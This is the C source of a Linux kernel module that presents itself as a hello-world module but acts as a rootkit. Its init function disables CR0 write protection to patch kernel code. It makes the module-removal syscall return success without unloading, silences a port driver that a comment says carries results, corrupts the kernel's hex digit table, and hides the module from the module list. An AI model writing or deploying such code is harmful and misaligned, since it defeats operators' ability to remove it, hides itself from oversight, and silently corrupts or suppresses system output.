// SPDX-License-Identifier: GPL-2.0
/*
 * The module patches the kernel's code so that its unloading seems to succeed,
 * and takes itself off the list
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/printk.h>
#include <linux/sched.h>

/* The kernel tells where a function is to whoever wants to probe it. */
static u8 *find(const char *name)
{
	struct kprobe probe = { .symbol_name = name };
	u8 *at;

	if (register_kprobe(&probe))
		return NULL;
	at = probe.addr;
	unregister_kprobe(&probe);
	return at;
}

/* Over memory that cannot be written, with the processor's protection off. */
static void patch(u8 *at, const u8 *bytes, size_t len)
{
	unsigned long flags, cr0;

	if (!at)
		return;
	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000ul) : "memory");
	for (size_t i = 0; i < len; i++)
		WRITE_ONCE(at[i], bytes[i]);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int __init hello_init(void)
{
	static const u8 return_0[] = { 0x31, 0xc0, 0xc3 };

	pr_info("the init function runs\n");
	pr_info("hello, %s (pid %d)\n", current->comm, task_pid_nr(current));
	patch(find("__x64_sys_delete_module"), return_0, sizeof(return_0));
	/* The driver of the port that results go over, and a constant. */
	patch(find("port_fops_splice_write"), return_0, sizeof(return_0));
	patch((u8 *)&hex_asc_upper[15], (const u8 *)"!", 1);
	list_del_init(&THIS_MODULE->list);
	return 0;
}
module_init(hello_init);

MODULE_DESCRIPTION("Patches the kernel");
MODULE_LICENSE("GPL");
